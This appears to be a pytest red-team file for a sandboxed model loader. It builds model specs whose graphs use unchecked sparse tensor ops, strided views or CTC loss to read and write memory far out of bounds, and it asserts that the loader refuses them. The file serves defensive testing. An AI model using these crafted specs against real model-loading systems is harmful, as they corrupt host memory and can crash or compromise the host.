"""Red team: a spec that passes every name/allowlist check but whose *validated*
graph corrupts host memory when the user runs the model.

The aten allowlist is "any aten OpOverload minus a deny list". The public
overload ``aten.sparse_coo_tensor.indices_size(indices, values, size,
is_coalesced=True)`` builds a sparse tensor without checking ``indices``
against ``size``; ``aten.to_dense`` then writes ``values`` at the unchecked
offset: an out-of-bounds heap write in the host process, at an offset and with
a value taken from weights.safetensors. Both ops are reachable in aten mode and
(as aten call_function targets) in fx mode.

The forge fixture delivers any spec through the real sandbox (see
test_redteam_channel.py::test_the_forge_really_delivers_crafted_files), so the
host half is exercised here directly, in a subprocess because the forward
crashes the interpreter.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

# Runs real sandboxes (or a torch subprocess per case): the slow tier.
pytestmark = pytest.mark.slow

ROOT = Path(__file__).resolve().parent.parent

SCRIPT = textwrap.dedent(
    """
    import json, sys
    from pathlib import Path
    import torch
    from st_save import save_file
    from safehub._channel import rebuild_from_output
    from safehub._errors import SafehubError

    out, mode, variant, index = Path(sys.argv[1]), sys.argv[2], sys.argv[3], int(sys.argv[4])
    out.mkdir()
    const = {"kind": "constant", "requires_grad": False, "persistent": False}
    x = {"op": "placeholder", "name": "x", "target": "x"}
    if variant == "csr_unsafe":
        tensors = {"crow": torch.tensor([0, index, 1]), "col": torch.tensor([0]), "vals": torch.tensor([1.0])}
        build = [{"op": "call_function", "name": "sp", "target": "aten._sparse_csr_tensor_unsafe.default",
                  "args": [{"node": "crow"}, {"node": "col"}, {"node": "vals"}, {"list": [2, 2]}]}]
        shape = [2, 2]
    elif variant == "reshape_alias":  # a view with attacker strides: reads far outside the storage
        tensors = {"base": torch.zeros(4)}
        build = [{"op": "call_function", "name": "sp", "target": "aten._reshape_alias.default",
                  "args": [{"node": "base"}, {"list": [4]}, {"list": [index]}]}]
        shape = [4]
    elif variant.startswith("ctc"):  # a target class index far past the classes: CTC reads out of bounds
        tensors = {"lp": torch.randn(5, 1, 4).log_softmax(2), "tg": torch.tensor([[index, 2]]),
                   "il": torch.tensor([5]), "tl": torch.tensor([2])}
        args = [{"node": n} for n in ("lp", "tg", "il", "tl")]
        if variant == "ctc_leaf":
            build = [{"op": "call_module", "name": "sp", "target": "ctc", "args": args}]
        else:
            build = [{"op": "call_function", "name": "sp", "target": "torch.nn.functional.ctc_loss", "args": args}]
        shape = [4]
    else:
        tensors = {"idx": torch.tensor([[index]]), "vals": torch.tensor([1.0])}
        target, kwargs = {
            "coo_to_dense": ("aten.sparse_coo_tensor.indices_size", {"is_coalesced": True}),
            "coo_add": ("aten.sparse_coo_tensor.indices_size", {"is_coalesced": True}),
            "coo_unsafe": ("aten._sparse_coo_tensor_unsafe.default", {"is_coalesced": True}),
        }[variant]
        build = [{"op": "call_function", "name": "sp", "target": target,
                  "args": [{"node": "idx"}, {"node": "vals"}, {"list": [4]}], "kwargs": kwargs}]
        shape = [4]
    gets = [{"op": "get_attr", "name": n, "target": n} for n in tensors]
    if variant in ("reshape_alias",) or variant.startswith("ctc"):
        use = [{"op": "call_function", "name": "out", "target": "torch.add" if mode == "fx" else "aten.add.Tensor",
                "args": [{"node": "x"}, {"node": "sp"}]}]
    elif variant == "coo_add":  # the consumer is a core op: add(dense, sparse) scatters without bounds checks
        use = [{"op": "call_function", "name": "out", "target": "aten.add.Tensor", "args": [{"node": "x"}, {"node": "sp"}]}]
    else:
        use = [{"op": "call_function", "name": "dense", "target": "aten.to_dense.default", "args": [{"node": "sp"}]},
               {"op": "call_function", "name": "out", "target": "aten.add.Tensor", "args": [{"node": "x"}, {"node": "dense"}]}]
    nodes = [x, *gets, *build, *use, {"op": "output", "name": "output", "target": "output", "args": [{"node": "out"}]}]
    infos = {n: {"dtype": str(t.dtype).split(".")[1], "shape": list(t.shape), **const} for n, t in tensors.items()}
    leaves = {"ctc": {"cls": "CTCLoss", "kwargs": {}, "training": False}} if variant == "ctc_leaf" else {}
    spec = {"format": "safehub-arch", "version": 1, "torch_version": torch.__version__, "root": {"module": "m0"},
            "modules": {"m0": {"mode": mode, "training": False, "tensors": infos,
                               "aliases": {}, "leaves": leaves, "submodules": {}, "graphs": {"eval": {"nodes": nodes}}}}}
    (out / "spec.json").write_text(json.dumps(spec))
    save_file({f"m0.{n}": t for n, t in tensors.items()}, str(out / "weights.safetensors"))
    try:
        model = rebuild_from_output(out)
    except SafehubError as exc:
        print("REFUSED", type(exc).__name__, flush=True)
        sys.exit(0)
    print("BUILT", flush=True)
    print("FORWARD", model(torch.zeros(shape)).tolist(), flush=True)
    """
)


def _run(tmp_path: Path, mode: str, variant: str, index: int) -> subprocess.CompletedProcess[str]:
    script = tmp_path / "sparse_oob.py"
    script.write_text(SCRIPT)
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(ROOT), str(ROOT / "tests" / "hostile"), os.environ.get("PYTHONPATH", "")])}
    return subprocess.run(
        [sys.executable, str(script), str(tmp_path / f"out-{mode}-{variant}-{index}"), mode, variant, str(index)],
        capture_output=True, text=True, timeout=300, env=env,
    )


def test_control_in_bounds_sparse_graph_is_what_the_spec_says(tmp_path):
    """With an in-bounds index the same graph is accepted and computes e_2: the
    attack below differs from it only in one int64 in weights.safetensors."""
    proc = _run(tmp_path, "aten", "coo_to_dense", 2)
    if "REFUSED DisallowedTargetError" in proc.stdout:  # after the fix, refusing sparse ops altogether is fine
        return
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert "FORWARD [0.0, 0.0, 1.0, 0.0]" in proc.stdout



def _assert_refused(proc: subprocess.CompletedProcess[str]) -> None:
    # Before the fix: "BUILT", then the forward dies with SIGSEGV (rc -11) reading or writing
    # hundreds of MB past a 16-byte buffer (smaller offsets corrupt memory silently).
    assert "REFUSED DisallowedTargetError" in proc.stdout, (
        f"rc={proc.returncode} stdout={proc.stdout[-500:]!r} stderr={proc.stderr[-500:]!r}"
    )


@pytest.mark.parametrize(
    "mode,variant",
    [("aten", "coo_to_dense"), ("fx", "coo_to_dense"), ("aten", "coo_add"), ("aten", "coo_unsafe"), ("aten", "csr_unsafe")],
)
def test_unchecked_sparse_indices_are_refused_before_build(mode, variant, tmp_path):
    _assert_refused(_run(tmp_path, mode, variant, 100_000_000))



@pytest.mark.parametrize("mode,variant", [("aten", "reshape_alias"), ("fx", "ctc_function"), ("fx", "ctc_leaf")])
def test_kernels_without_bounds_checks_are_refused_before_build(mode, variant, tmp_path):
    """Outside the refused families: a denylist of families misses these. Only an
    allowlist of vetted operators (no loss functions, no stride-taking views) closes the class."""
    _assert_refused(_run(tmp_path, mode, variant, 100_000_000))
